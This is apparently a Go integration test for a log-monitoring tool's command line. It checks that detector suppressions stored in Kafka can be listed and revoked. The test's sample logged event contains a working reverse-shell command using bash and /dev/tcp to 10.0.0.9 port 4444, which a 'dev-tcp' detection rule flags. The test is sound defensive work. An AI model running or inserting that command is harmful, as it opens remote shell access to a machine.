//go:build integration

package main

import (
	"bytes"
	"context"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/logwarden/logwarden/pkg/kafkatest"
	"github.com/logwarden/logwarden/pkg/kafkax"
	"github.com/logwarden/logwarden/pkg/logwardenpb"
)

// feedback list shows the patterns in force with their scope and author; revoke writes
// a revocation (keyed like the feedback it withdraws) after which list hides it and
// list --all shows who revoked it.
func TestFeedbackListAndRevoke(t *testing.T) {
	cfg := kafkatest.Config(t)
	topic := kafkatest.UniqueName("feedback")
	t.Cleanup(func() { _ = kafkatest.Admin(t, cfg).DeleteTopics(context.Background(), topic) })
	env := map[string]string{"KAFKA_BROKERS": strings.Join(cfg.Brokers, ","), "FEEDBACK_TOPIC": topic, "USER": "ops"}
	cli := func(args ...string) string {
		t.Helper()
		var out, errb bytes.Buffer
		if err := run(context.Background(), args, func(k string) string { return env[k] }, nil, &out, &errb); err != nil {
			t.Fatalf("%v: %v\n%s", args, err, errb.String())
		}
		return out.String()
	}
	if out := cli("feedback", "list"); strings.Count(out, "\n") != 1 {
		t.Fatalf("empty list:\n%s", out)
	}
	now := time.Now()
	ev := &logwardenpb.LogEvent{User: "alice", Action: "command", Target: "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"}
	fb := &logwardenpb.Feedback{Id: "0011223344556677", Kind: logwardenpb.FeedbackKind_FEEDBACK_KIND_NOT_AN_ISSUE, Detector: "rules",
		RuleId: "dev-tcp", Entity: "alice", Event: ev, CreatedBy: "@bob (U0BOB)", CreatedAt: timestamppb.New(now),
		ExpiresAt: timestamppb.New(now.Add(time.Hour)), Reason: "pentest"}
	m, err := kafkax.NewProtoMessage(topic, "dev-tcp/alice", fb.GetId(), fb)
	if err != nil {
		t.Fatal(err)
	}
	w, err := kafkax.NewWriter(cfg, kafkax.DefaultWriterConfig(), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if err := w.Write(context.Background(), m); err != nil {
		t.Fatal(err)
	}
	list := cli("feedback", "list")
	for _, want := range []string{"0011223344556677", "active", `user "alice" running "bash -i >&<*> 0>&1" (rule rules/dev-tcp)`, "@bob (U0BOB)", "pentest"} {
		if !strings.Contains(list, want) {
			t.Fatalf("list lacks %q:\n%s", want, list)
		}
	}
	if out := cli("feedback", "revoke", "0011223344556677", "-r", "pentest over"); !strings.Contains(out, "revoked 0011223344556677") {
		t.Fatalf("revoke: %q", out)
	}
	if list := cli("feedback", "list"); strings.Contains(list, "0011223344556677") {
		t.Fatalf("revoked feedback still listed:\n%s", list)
	}
	if all := cli("feedback", "list", "--all"); !strings.Contains(all, "revoked by ops") {
		t.Fatalf("list --all:\n%s", all)
	}
	msgs := kafkatest.ReadN(t, cfg, topic, 2, 20*time.Second)
	r := &logwardenpb.Feedback{}
	if err := proto.Unmarshal(msgs[1].Value, r); err != nil {
		t.Fatal(err)
	}
	if r.GetKind() != logwardenpb.FeedbackKind_FEEDBACK_KIND_REVOKED || r.GetRevokes() != fb.GetId() || string(msgs[1].Key) != "dev-tcp/alice" ||
		r.GetCreatedBy() != "ops" || r.GetReason() != "pentest over" {
		t.Fatalf("revocation %v under key %q", r, msgs[1].Key)
	}
	var errb bytes.Buffer
	if err := run(context.Background(), []string{"feedback", "revoke", "nope"}, func(k string) string { return env[k] }, nil, &bytes.Buffer{}, &errb); err == nil {
		t.Fatal("revoking an unknown id succeeded")
	}
}
